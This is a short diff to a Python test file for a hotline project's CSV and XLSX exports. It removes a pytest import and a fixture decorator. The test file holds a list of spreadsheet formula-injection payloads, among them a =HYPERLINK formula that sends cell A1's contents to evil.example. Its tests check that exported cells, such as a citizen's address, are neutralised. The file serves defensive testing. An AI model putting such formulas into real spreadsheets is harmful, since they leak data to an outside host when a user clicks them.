@@ -6,11 +6,9 @@ from __future__ import annotations
 import csv
 import io
 
-import pytest
 from openpyxl import Workbook, load_workbook
 
 from hotline.spreadsheet import csv_text, xlsx_append
-from tests.test_routing_catalogue import restore_catalogue  # noqa: F401 - the fixture
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1,"点击")',
@@ -55,7 +53,6 @@ def test_monthly_report_exports_neutralise_a_citizens_address():
     assert cell.value == "=1+1 梅园路" and cell.data_type == "s"
 
 
-@pytest.mark.usefixtures("restore_catalogue")
 def test_dispatch_catalogue_export_neutralises_a_note(api):
     admin = api.as_("admin")
     r = admin.post(
